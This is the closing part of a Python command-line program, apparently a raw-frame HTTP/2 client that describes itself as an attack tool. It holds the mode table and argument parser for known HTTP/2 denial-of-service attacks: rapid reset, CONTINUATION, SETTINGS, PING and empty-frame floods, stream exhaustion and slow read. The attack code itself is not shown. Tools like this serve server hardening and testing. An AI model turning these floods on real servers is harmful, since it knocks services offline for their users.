    c.attack["end_ms"] = c.ms()
    c.flush()


MODES = {
    "request": mode_request,
    "rapid-reset": mode_rapid_reset,
    "continuation-flood": mode_continuation_flood,
    "settings-flood": mode_settings_flood,
    "ping-flood": mode_ping_flood,
    "empty-data-flood": mode_empty_data_flood,
    "empty-headers-flood": mode_empty_headers_flood,
    "too-many-streams": mode_too_many_streams,
    "slow-read": mode_slow_read,
}


def main():
    p = argparse.ArgumentParser(
        description="Raw-frame HTTP/2 client and attack tool (JSON on stdout).",
        epilog="See the module docstring for modes and the JSON fields.")
    p.add_argument("mode", choices=sorted(MODES))
    p.add_argument("n", nargs="?", type=int, default=None,
                   help="frames/streams for the attack modes")
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", "-p", type=int, required=True)
    p.add_argument("--plain", action="store_true",
                   help="TCP with prior knowledge (h2c), no TLS")
    p.add_argument("--ca", help="verify the server with this CA file")
    p.add_argument("--sni", help="server name sent (default: the authority's "
                   "host unless an address; \"\" for none)")
    p.add_argument("--no-check-name", action="store_true",
                   help="with --ca: do not check the name in the certificate")
    p.add_argument("--cert", help="client certificate (PEM)")
    p.add_argument("--key", help="its key")
    p.add_argument("--alpn", default="h2",
                   help="protocols offered, comma-separated (default h2)")
    p.add_argument("--timeout", type=float, default=10.0,
                   help="bound of the whole run, seconds (default 10)")
    # the request
    p.add_argument("--method", "-X", default=None)
    p.add_argument("--scheme", default="https")
    p.add_argument("--authority", "-a", default="localhost")
    p.add_argument("--path", default="/")
    p.add_argument("--header", "-H", action="append", default=[],
                   help="NAME: VALUE (repeatable)")
    p.add_argument("--raw-headers", action="store_true",
                   help="send only the -H fields, names unchanged")
    p.add_argument("--data", "-d", help="request body (text)")
    p.add_argument("--data-file", help="request body from a file")
    p.add_argument("--no-content-length", action="store_true")
    p.add_argument("--no-end-stream", action="store_true",
                   help="never send END_STREAM (request: the stream stays open)")
    p.add_argument("--end-stream", action="store_true",
                   help="too-many-streams: HEADERS with END_STREAM")
    p.add_argument("--split", type=int, default=0,
                   help="header block fragments of at most this many bytes")
    p.add_argument("--data-frame", type=int, default=0,
                   help="DATA payloads of at most this many bytes")
    p.add_argument("--requests", help="JSON list of requests (- for stdin)")
    p.add_argument("--count", "-n", type=int, default=None,
                   help="request: send the request (list) this many times")
    p.add_argument("--concurrency", "-c", type=int, default=0,
                   help="request: streams open at once (default all)")
    p.add_argument("--ignore-max-streams", action="store_true",
                   help="request: do not hold to MAX_CONCURRENT_STREAMS")
    p.add_argument("--linger", type=float, default=0.0,
                   help="seconds to keep reading after the last answer")
    # flow control
    p.add_argument("--window", type=int, default=None,
                   help="SETTINGS_INITIAL_WINDOW_SIZE (default 1048576; "
                   "slow-read 1024)")
    p.add_argument("--conn-window", type=int, default=16 << 20,
                   help="connection window (default 16 MiB)")
    p.add_argument("--step", type=int, default=1024,
                   help="slow-read: bytes given back per interval")
    p.add_argument("--interval", type=float, default=0.5,
                   help="slow-read: seconds between window updates")
    # attacks
    p.add_argument("--batch", type=int, default=50,
                   help="attack units queued between flushes")
    p.add_argument("--frame-bytes", type=int, default=0,
                   help="continuation-flood: bytes per CONTINUATION (0 empty)")
    p.add_argument("--entries", type=int, default=1,
                   help="settings-flood: entries per SETTINGS frame")
    p.add_argument("--read-during", action="store_true",
                   help="settings/ping-flood: read (and ACK) while sending")
    p.add_argument("--variant", choices=["streams", "continuation"],
                   default="streams", help="empty-headers-flood variant")
    p.add_argument("--hold", type=float, default=2.0,
                   help="too-many-streams: seconds the streams stay open")
    p.add_argument("--cancel", action="store_true",
                   help="too-many-streams: RST_STREAM CANCEL the open ones "
                   "after --hold")
    p.add_argument("--rcvbuf", type=int, default=0,
                   help="SO_RCVBUF of our socket (small: the server's "
                   "writes back up sooner)")
    p.add_argument("--stall", type=float, default=3.0,
                   help="seconds without write progress that end the sending")
    p.add_argument("--grace", type=float, default=2.0,
                   help="seconds to wait for the close after a GOAWAY")
    p.add_argument("--settle", type=float, default=3.0,
                   help="after an attack: stop when nothing came for this long")
    p.add_argument("--no-wait-settings", action="store_true",
                   help="do not wait for the server's SETTINGS first")
    p.add_argument("--no-streams", action="store_true",
                   help="leave the per-stream details out of the JSON")
    p.add_argument("--log-frames", action="store_true",
                   help="list every frame received (time, type, flags, "
                   "stream, length)")
    a = p.parse_args()
    a.method_default = a.method is None
    if a.method is None:
        a.method = "GET"
    a.count_given = a.count is not None
    if a.count is None:
        a.count = 1
    if a.window is None:
        a.window = 1024 if a.mode == "slow-read" else 1 << 20
    if a.mode not in ("request", "slow-read") and a.n is None:
        p.error("%s needs N" % a.mode)
    if a.mode in ("request", "slow-read") and a.n is not None:
        p.error("%s takes no N (use --count)" % a.mode)
    if not 0 <= a.window <= 0x7fffffff or a.conn_window < 65535:
        p.error("bad window")

    c = Client(a)
    not_sent = 0
    try:
        if c.connect():
            r = MODES[a.mode](c, a)
            if a.mode == "request":
                not_sent = r
        elif a.mode == "request":
            not_sent = len(request_list(a))
    except KeyboardInterrupt:
        c.result["error"] = "interrupted"
    finally:
        c.close()
    out = c.report(not_sent)
    json.dump(out, sys.stdout, indent=1, sort_keys=True)
    sys.stdout.write("\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
